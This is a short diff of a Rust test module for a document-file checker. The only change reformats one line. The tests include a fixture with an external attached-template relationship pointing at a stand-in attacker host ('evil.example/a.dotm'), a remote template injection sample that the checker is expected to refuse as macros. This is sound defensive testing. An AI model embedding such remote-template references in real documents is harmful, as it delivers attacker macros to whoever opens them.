@@ -145,7 +145,8 @@ mod tests {
         assert_eq!(check(&packed(&[odt, ("Basic/Standard/Module1.xml", b"x")])), Err(FileRefusal::Macros));
         let template = "<Relationship Type=\"http://x/attachedTemplate\" Target=\"http://evil.example/a.dotm\" TargetMode=\"External\"/>";
         assert_eq!(with("word/_rels/settings.xml.rels", template), Err(FileRefusal::Macros));
-        let link = "<Relationship Type=\"http://x/hyperlink\" Target=\"https://town.example\" TargetMode=\"External\"/>";
+        let link =
+            "<Relationship Type=\"http://x/hyperlink\" Target=\"https://town.example\" TargetMode=\"External\"/>";
         assert_eq!(with("word/_rels/document.xml.rels", link), Ok(FileFormat::Docx));
     }
 
